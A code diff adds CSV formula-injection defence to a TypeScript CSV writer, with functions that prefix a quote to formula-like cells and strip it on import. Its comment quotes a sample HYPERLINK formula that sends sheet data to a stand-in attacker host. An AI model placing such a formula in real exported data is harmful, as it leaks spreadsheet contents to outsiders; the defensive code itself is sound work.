@@ -15,6 +15,23 @@ function csvField(value: string): string {
   return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
 }
 
+/**
+ * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or CR) as a formula: a page's
+ * title such as `=HYPERLINK("https://evil.example/?d="&A2,"Open")` would become a live link that sends the sheet away.
+ * OWASP's defence is a leading `'`, which spreadsheets show as text. So that our own import can take it off again
+ * without ever taking off a quote the reader wrote, a cell that already starts with quotes before such a character
+ * gets one more: `restoreFormulaCell` removes exactly one from every cell of that shape.
+ */
+const FORMULA_CELL = /^'*[=+\-@\t\r]/;
+
+export function neutralizeFormulaCell(value: string): string {
+  return FORMULA_CELL.test(value) ? `'${value}` : value;
+}
+
+export function restoreFormulaCell(value: string): string {
+  return value.startsWith("'") && FORMULA_CELL.test(value) ? value.slice(1) : value;
+}
+
 export function writeCsv(records: readonly (readonly string[])[]): string {
   return records.map((fields) => `${fields.map(csvField).join(',')}\r\n`).join('');
 }
